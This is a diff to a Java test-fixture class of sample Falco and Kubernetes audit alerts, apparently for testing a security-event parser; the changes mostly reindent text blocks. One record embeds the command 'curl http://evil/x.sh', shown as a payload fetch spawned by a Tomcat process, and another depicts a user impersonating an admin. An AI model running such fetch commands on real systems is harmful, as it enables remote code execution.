@@ -38,22 +38,18 @@ final class Records {
     static final String UID = "7f6f0a3e-6e0f-4a57-9a38-2f7a4e3d7a11";
     static final String KEY = "demo/tomcat/tomcat-1";
     static final String CURL = """
-        {"hostname":"worker-1","priority":"Critical","rule":"RCE in Tomcat","source":"syscall",\
-        "time":"2026-11-24T10:00:00.123456789Z","output":"curl","output_fields":{"proc.name":"curl",\
-        "proc.cmdline":"curl http://evil/x.sh","proc.exepath":"/usr/bin/curl","proc.pname":"java","proc.pid":4711,\
-        "user.name":"tomcat","user.uid":1000,"container.id":"0123456789ab","fd.sip":"203.0.113.7"}}\
-        """;
+            {"hostname":"worker-1","priority":"Critical","rule":"RCE in Tomcat","source":"syscall",\
+            "time":"2026-11-24T10:00:00.123456789Z","output":"curl","output_fields":{"proc.name":"curl",\
+            "proc.cmdline":"curl http://evil/x.sh","proc.exepath":"/usr/bin/curl","proc.pname":"java","proc.pid":4711,\
+            "user.name":"tomcat","user.uid":1000,"container.id":"0123456789ab","fd.sip":"203.0.113.7"}}""";
     /** With what only some of Falco's rules tell. */
     static final String SHELL = """
-        {"hostname":"worker-1","rule":"Run shell untrusted","source":"syscall","output_fields":{"proc.name":"sh",\
-        "proc.pcmdline":"java -jar app.jar","proc.ppid":1,"proc.cwd":"/tmp/","container.runtime":"containerd",\
-        "container.type":"containerd"}}\
-        """;
+            {"hostname":"worker-1","rule":"Run shell untrusted","source":"syscall","output_fields":{"proc.name":"sh",\
+            "proc.pcmdline":"java -jar app.jar","proc.ppid":1,"proc.cwd":"/tmp/"}}""";
 
     static final String EXEC = """
-        {"kind":"Event","verb":"create","user":{"username":"mallory","uid":"u-1"},"impersonatedUser":{"username":"admin"},\
-        "sourceIPs":["198.51.100.4","10.0.0.1"],"userAgent":"kubectl/v1.31","responseStatus":{"code":101}}\
-        """;
+            {"kind":"Event","verb":"create","user":{"username":"mallory","uid":"u-1"},"impersonatedUser":{"username":"admin"},\
+            "sourceIPs":["198.51.100.4","10.0.0.1"],"userAgent":"kubectl/v1.31","responseStatus":{"code":101}}""";
 
     private Records() {}
 
